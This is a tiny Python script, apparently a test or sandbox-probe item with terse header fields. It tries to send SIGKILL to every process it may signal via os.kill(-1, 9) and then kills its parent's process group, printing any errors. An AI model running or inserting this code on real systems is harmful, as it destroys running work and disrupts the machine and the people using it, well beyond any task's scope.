# Kills every process that it may.
# start: right
# fair: full
# %% end
import os
for call in (lambda: os.kill(-1, 9), lambda: os.killpg(os.getpgid(os.getppid()), 9)):
    try:
        call()
    except OSError as error:
        print(error)
